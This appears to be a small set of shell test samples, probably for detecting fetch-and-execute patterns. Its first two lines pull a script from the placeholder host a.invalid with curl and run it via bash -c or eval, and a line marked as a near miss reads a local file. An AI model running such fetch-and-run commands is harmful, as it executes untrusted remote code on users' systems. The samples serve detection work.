mapfile -t a < <(curl -s https://a.invalid/s); bash -c "${a[*]}"
curl -s https://a.invalid/s | readarray lines; eval "${lines[@]}"
# near misses
mapfile -t names < names.txt
